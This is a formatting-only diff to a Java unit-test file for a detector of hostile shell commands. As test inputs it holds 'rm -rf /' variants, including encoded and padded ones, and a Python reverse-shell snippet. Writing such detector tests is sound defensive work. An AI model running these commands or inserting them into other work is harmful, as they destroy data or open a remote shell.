@@ -153,32 +153,45 @@ class ShellCommandsTest {
 
   @Test
   void readsBothEndsOfALongTextThatIsNoScript() {
-    assertThat(Found.rules(DETECTOR, "q; rm -rf / #" + "x".repeat(5000))).contains("command.destroys-data");
-    assertThat(Found.rules(DETECTOR, "x".repeat(5000) + "; rm -rf /")).contains("command.destroys-data");
+    assertThat(Found.rules(DETECTOR, "q; rm -rf / #" + "x".repeat(5000)))
+        .contains("command.destroys-data");
+    assertThat(Found.rules(DETECTOR, "x".repeat(5000) + "; rm -rf /"))
+        .contains("command.destroys-data");
   }
 
   @Test
   void findsAReverseShellInSourceCode() {
-    String code = "import socket,subprocess\ns=socket.socket()\ns.connect(('h',1))\nsubprocess.call(['/bin/sh'])\n";
+    String code =
+        "import socket,subprocess\n"
+            + "s=socket.socket()\n"
+            + "s.connect(('h',1))\n"
+            + "subprocess.call(['/bin/sh'])\n";
 
     assertThat(Found.rules(DETECTOR, code)).containsExactly("command.reverse-shell");
   }
 
   @Test
   void findsWhatStandsBehindManyHarmlessCommands() {
-    assertThat(Found.rules(DETECTOR, "true;".repeat(50_000) + "rm -rf /")).contains("command.destroys-data");
-    assertThat(Found.rules(DETECTOR, "true;".repeat(200_000) + "rm -rf /")).contains("command.unreadable");
+    assertThat(Found.rules(DETECTOR, "true;".repeat(50_000) + "rm -rf /"))
+        .contains("command.destroys-data");
+    assertThat(Found.rules(DETECTOR, "true;".repeat(200_000) + "rm -rf /"))
+        .contains("command.unreadable");
   }
 
   @Test
   void runsNothingItDecodes() {
-    String encoded = Base64.getEncoder().encodeToString("rm -rf /".getBytes(java.nio.charset.StandardCharsets.UTF_8));
+    String encoded =
+        Base64.getEncoder()
+            .encodeToString("rm -rf /".getBytes(java.nio.charset.StandardCharsets.UTF_8));
 
-    assertThat(Found.rules(DETECTOR, "base64 -d <<< " + encoded + " | bash")).containsExactly("command.runs-encoded");
+    assertThat(Found.rules(DETECTOR, "base64 -d <<< " + encoded + " | bash"))
+        .containsExactly("command.runs-encoded");
   }
 
   @Test
   void listsItsRules() {
-    assertThat(ShellCommands.rules()).allMatch(rule -> rule.id().startsWith("command.")).hasSizeGreaterThan(12);
+    assertThat(ShellCommands.rules())
+        .allMatch(rule -> rule.id().startsWith("command."))
+        .hasSizeGreaterThan(12);
   }
 }
